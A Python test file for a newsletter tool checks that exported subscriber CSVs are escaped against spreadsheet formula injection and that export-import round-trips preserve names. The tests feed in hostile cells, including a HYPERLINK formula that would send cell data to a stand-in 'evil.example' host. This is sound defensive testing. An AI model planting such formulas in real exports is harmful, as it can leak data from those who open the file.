"""``subscribers export``: no cell is a formula to a spreadsheet, and ``import`` of an
export gives back the same names and addresses (issue 10, item 10)."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from digest.cli import main
from digest.state import db, subscribers
from digest.state.db import schema
from digest.state.spreadsheet import FORMULA_STARTS, MARK, escape, unescape

from .helpers import SAMPLES_NOW as NOW
from .helpers import Project

#: What a hostile or unlucky cell starts with, more often than chance would give it.
STARTS = st.sampled_from([*FORMULA_STARTS, MARK, MARK + MARK, MARK + "=", " ", ""])
CELLS = st.builds(str.__add__, STARTS, st.text(max_size=30))


@given(cell=CELLS)
def test_escaped_cells_are_never_formulas_and_unescape_gives_them_back(cell: str) -> None:
    escaped = escape(cell)
    assert not escaped.startswith(FORMULA_STARTS)
    assert escaped in (cell, MARK + cell)
    assert unescape(escaped) == cell


def test_harmless_cells_stay_as_they_are() -> None:
    for cell in ("", "Ada Lovelace", "'Tis I", "O'Brien", "a=b", "1+1", "ada@example.org"):
        assert escape(cell) == cell == unescape(cell)
    assert escape('=HYPERLINK("https://evil.example")') == '\'=HYPERLINK("https://evil.example")'
    assert escape("-2+3") == "'-2+3" and escape("@SUM(A1)") == "'@SUM(A1)"
    assert escape("\tx") == "'\tx" and escape("\rx") == "'\rx"
    assert escape("'=x") == "''=x" and escape("''") == "'''"


@pytest.fixture(scope="module")
def engines() -> Iterator[tuple[sa.Engine, sa.Engine]]:
    """Two databases, for the list exported and the list imported (module-wide: hypothesis
    calls the test many times; each call empties them)."""
    with tempfile.TemporaryDirectory() as folder:
        pair = (
            db.connect(f"sqlite:///{Path(folder) / 'exported.db'}"),
            db.connect(f"sqlite:///{Path(folder) / 'imported.db'}"),
        )
        yield pair
        for engine in pair:
            engine.dispose()


LOCAL_PARTS = st.from_regex(r"[=+\-'A-Za-z0-9][=+\-'A-Za-z0-9_]{0,12}", fullmatch=True)
PEOPLE = st.lists(
    st.tuples(LOCAL_PARTS.map(lambda local: f"{local}@example.org"), CELLS),
    max_size=8,
    unique_by=lambda person: person[0].lower(),
)


def names(engine: sa.Engine) -> dict[str, str | None]:
    with engine.connect() as conn:
        return {s.email: s.name for s in subscribers.all_subscribers(conn)}


@settings(max_examples=60, deadline=None)
@given(people=PEOPLE)
def test_export_then_import_gives_back_the_same_list(
    engines: tuple[sa.Engine, sa.Engine], people: list[tuple[str, str]]
) -> None:
    exported, imported = engines
    for engine in engines:
        with engine.begin() as conn:
            conn.execute(sa.delete(schema.subscribers))
    with exported.begin() as conn:
        for email, name in people:  # as the web form would store them
            subscribers.add(conn, email, name, "web", NOW)
    out = io.StringIO()
    with exported.connect() as conn:
        assert subscribers.export_csv(conn, out) == len(people)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(rows) == len(people) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    with imported.begin() as conn:
        report = subscribers.import_csv(conn, io.StringIO(out.getvalue()), NOW)
    assert report.ok and report.added == len(people), report
    assert names(imported) == names(exported)


def test_the_command_line_round_trip(project: Project) -> None:
    project.feed("https://example.org/feed.xml")
    project.write()
    runner = CliRunner()

    def digest(*args: str) -> str:
        result = runner.invoke(main, ["--config", str(project.path), *args])
        assert result.exit_code == 0, result.output
        return result.output

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    digest("subscribers", "add", "--name", hostile, "--", "-bob@example.org")
    digest("subscribers", "add", "ada@example.org", "--name", "@Ada")
    out = project.folder / "list.csv"
    digest("subscribers", "export", "--out", str(out))
    text = out.read_text(encoding="utf-8")
    assert "'-bob@example.org" in text and "'@Ada" in text
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
    project.data["storage"] = {"url": "sqlite:///other.db"}
    project.write()
    digest("subscribers", "import", str(out))
    listed = json.loads(digest("subscribers", "list", "--json"))
    assert {(s["email"], s["name"]) for s in listed} == {
        ("-bob@example.org", hostile),
        ("ada@example.org", "@Ada"),
    }
